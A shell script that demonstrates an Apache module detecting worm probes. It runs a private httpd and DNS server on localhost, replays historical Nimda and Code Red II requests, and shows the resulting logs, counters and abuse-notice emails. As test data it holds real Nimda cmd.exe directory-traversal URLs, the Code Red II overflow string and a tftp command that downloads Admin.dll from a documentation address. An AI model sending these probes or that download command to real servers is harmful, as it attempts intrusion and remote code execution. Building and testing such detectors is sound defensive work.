#!/bin/sh
# demo.sh - the module at work on a private httpd on 127.0.0.1
#
# Starts its own httpd (own ServerRoot under $DEMO_DIR, never the system's
# service) with mod_wormreply switched on for one virtual host, and the test
# suite's private DNS server (unbound on 127.0.0.1:15363, serving documentation
# zones), sends real Nimda and Code Red probes exactly as the worms sent them
# plus ordinary requests, shows the answers, the log lines, the counters and
# the notices the notifier wrote to the outbox for the probers' networks,
# prints the CLI's report, then stops everything. No external server is
# needed. Run after "make -f apxs.mk".
set -eu
cd "$(dirname "$0")/.."
top=$(pwd)
PORT=${DEMO_PORT:-18081}
DEMO_DIR=${DEMO_DIR:-/tmp/wormreply-demo}
SO=$top/mod_wormreply/.libs/mod_wormreply.so
MODDIR=$(apxs -q LIBEXECDIR)
HTTPD=$(apxs -q SBINDIR)/$(apxs -q TARGET)

[ -f "$SO" ] || { echo "demo: build first: make -f apxs.mk" >&2; exit 1; }
case "$DEMO_DIR" in /tmp/?*) ;; *) echo "demo: DEMO_DIR must be under /tmp" >&2; exit 1;; esac

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

DNS_RIG=$DEMO_DIR/rig
DNS_PORT=${DEMO_DNS_PORT:-15363}
stop() {
    WR_RIG_DIR=$DNS_RIG WR_DNS_PORT=$DNS_PORT sh "$top/t/rig/dns.sh" stop >/dev/null 2>&1 || true
    if [ -f "$DEMO_DIR/run/httpd.pid" ]; then
        "$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -k stop 2>/dev/null || true
        i=0
        while [ -f "$DEMO_DIR/run/httpd.pid" ] && [ $i -lt 50 ]; do
            sleep 0.1; i=$((i + 1))
        done
    fi
}
stop
rm -rf "$DEMO_DIR"
mkdir -p "$DEMO_DIR/logs" "$DEMO_DIR/run" "$DEMO_DIR/htdocs"
echo '<html><body>hello</body></html>' > "$DEMO_DIR/htdocs/index.html"
chmod -R a+rX "$DEMO_DIR"

cat > "$DEMO_DIR/httpd.conf" <<EOF
ServerRoot "$DEMO_DIR"
ServerName demo.localhost
Listen 127.0.0.1:$PORT
PidFile "$DEMO_DIR/run/httpd.pid"
DefaultRuntimeDir "$DEMO_DIR/run"
Mutex file:$DEMO_DIR/run default
User www-data
Group www-data
LoadModule mpm_event_module $MODDIR/mod_mpm_event.so
LoadModule authz_core_module $MODDIR/mod_authz_core.so
LoadModule authz_host_module $MODDIR/mod_authz_host.so
LoadModule mime_module $MODDIR/mod_mime.so
LoadModule dir_module $MODDIR/mod_dir.so
LoadModule status_module $MODDIR/mod_status.so
LoadModule remoteip_module $MODDIR/mod_remoteip.so
LoadModule socache_shmcb_module $MODDIR/mod_socache_shmcb.so
LoadModule wormreply_module $SO
StartServers 1
ServerLimit 2
ThreadsPerChild 8
MaxRequestWorkers 16
ErrorLog "$DEMO_DIR/logs/error.log"
LogLevel warn wormreply:info
LogFormat "%h %t \"%r\" %>s %B probe=%{WORM_PROBE}e" worm
CustomLog "$DEMO_DIR/logs/access.log" worm
CustomLog "$DEMO_DIR/logs/probes.log" worm env=WORM_PROBE
TypesConfig /etc/mime.types
DocumentRoot "$DEMO_DIR/htdocs"
DirectoryIndex index.html
<Directory "$DEMO_DIR/htdocs">
    Require all granted
</Directory>
# The demo's probers are documentation addresses (RFC 5737, RFC 3849),
# presented through mod_remoteip; the notices go to the outbox directory.
RemoteIPHeader X-Forwarded-For
RemoteIPInternalProxy 127.0.0.1
WormReplySpool $DEMO_DIR/spool
WormReplyOutbox $DEMO_DIR/outbox
WormReplyResolver 127.0.0.1:$DNS_PORT
WormReplyNotifyAllow 192.0.2.0/24 198.51.100.0/24 2001:db8::/32
WormReplyDigestDelay 2s
WormReplyFrom webmaster@demo.localhost
<VirtualHost 127.0.0.1:$PORT>
    ServerName demo.localhost
    WormReply On
    WormReplyAction 404
    WormReplyNotify On
    <Location /server-status>
        SetHandler server-status
        Require ip 127.0.0.1
    </Location>
    <Location /wormreply-status>
        SetHandler wormreply-status
        Require ip 127.0.0.1
    </Location>
</VirtualHost>
EOF

say "configtest"
"$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -t
say "start the private DNS server (unbound, documentation zones) on 127.0.0.1:$DNS_PORT"
WR_RIG_DIR=$DNS_RIG WR_DNS_PORT=$DNS_PORT sh "$top/t/rig/dns.sh" start
say "start httpd on 127.0.0.1:$PORT"
"$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -k start
trap stop EXIT INT TERM
i=0
until curl -s -o /dev/null "http://127.0.0.1:$PORT/"; do
    i=$((i + 1)); [ $i -lt 100 ] || { echo "demo: httpd did not start" >&2; exit 1; }
    sleep 0.05
done

# raw - send one request exactly as given, print the status line and body;
# $SRC, when set, is the prober's address (X-Forwarded-For)
raw() {
    printf '%s\r\nHost: www\r\nConnnection: close\r\n%s\r\n' "$1" \
        "${SRC:+X-Forwarded-For: $SRC$(printf '\r')
}" \
        | timeout 5 perl -MIO::Socket::INET -e '
            my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:'"$PORT"'",
                                          Timeout => 5) or die "connect: $!";
            local $/; my $req = <STDIN>; print $s $req;
            my $ans = <$s> // ""; my ($st) = $ans =~ /^(HTTP\S+ \d+[^\r\n]*)/;
            my ($body) = $ans =~ /\r\n\r\n(.*)\z/s;
            $body //= ""; $body =~ s/\n/\\n/g;
            printf "  %-45s %s\n", $st // "(no answer)", substr($body, 0, 40);'
}

say "the 16 requests of a Nimda scan, as the worm sent them, from 192.0.2.10"
SRC=192.0.2.10
while IFS= read -r u; do
    printf '%s\n' "$u"; raw "GET $u HTTP/1.0"
done <<'EOF'
/scripts/root.exe?/c+dir
/MSADC/root.exe?/c+dir
/c/winnt/system32/cmd.exe?/c+dir
/d/winnt/system32/cmd.exe?/c+dir
/scripts/..%255c../winnt/system32/cmd.exe?/c+dir
/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir
/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir
/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir
/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir
/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir
/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir
/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir
/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir
/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir
/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir
/scripts/..%252f../winnt/system32/cmd.exe?/c+dir
EOF

say "Code Red II, from 2001:db8::10 and from 198.51.100.20"
CODERED="/default.ida?$(printf '%224s' '' | tr ' ' X)%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
echo "/default.ida?XXXX...(224 X)...%u9090%u6858..."
SRC=2001:db8::10 raw "GET $CODERED HTTP/1.0"
SRC=198.51.100.20 raw "GET $CODERED HTTP/1.0"

say "Nimda's tftp follow-up (httpd itself rejects this request line)"
SRC=
raw 'GET /scripts/root.exe?/c+tftp -i 192.0.2.7 GET Admin.dll c:\Admin.dll HTTP/1.0'

say "ordinary requests are untouched"
for u in / /scripts/jquery.min.js '/search?q=cmd.exe' /admin.dll.html; do
    printf '%-28s %s\n' "$u" \
        "$(curl -s -o /dev/null -w '%{http_code}' --path-as-is "http://127.0.0.1:$PORT$u")"
done

sleep 0.3
say "error log (one info line per probe, tag WR00004 / WR00005)"
grep -a 'WR0000[45]' "$DEMO_DIR/logs/error.log" | sed 's/^\[[^]]*\] //' | cut -c1-150
say "access log: probes only (CustomLog ... env=WORM_PROBE)"
cut -c1-150 "$DEMO_DIR/logs/probes.log"
say "counters in mod_status (?auto)"
curl -s "http://127.0.0.1:$PORT/server-status?auto" | grep '^WormReply'
say "the same counters as JSON and for Prometheus (SetHandler wormreply-status)"
curl -s "http://127.0.0.1:$PORT/wormreply-status"
curl -s "http://127.0.0.1:$PORT/wormreply-status?format=prometheus" | grep -v '^#' | head -8
say "the CLI classifies the same access log with the same matcher"
"$top/tools/wormreply" match --only-probes "$DEMO_DIR/logs/access.log" | cut -c1-110

say "notices: the notifier resolved the probers (confirmed reverse DNS) and wrote one digest per domain"
i=0
until [ "$(ls "$DEMO_DIR/outbox" 2>/dev/null | grep -c '\.eml$')" -ge 2 ] || [ $i -ge 100 ]; do
    sleep 0.1; i=$((i + 1))
done
grep -a 'WR0004[2-7]\|WR00050' "$DEMO_DIR/logs/error.log" | sed 's/^\[[^]]*\] //' | cut -c1-160
for f in "$DEMO_DIR"/outbox/*.eml; do
    [ -f "$f" ] || continue
    printf '\n--- %s\n' "$f"
    tr -d '\r' < "$f"
done

say "the probe load of the real sample access log (wormreply report, t/data/)"
"$top/tools/wormreply" report "$top/t/data/access-sample.log.gz" | head -32

say "stop httpd"
stop
trap - EXIT INT TERM
echo "done: logs kept in $DEMO_DIR/logs"
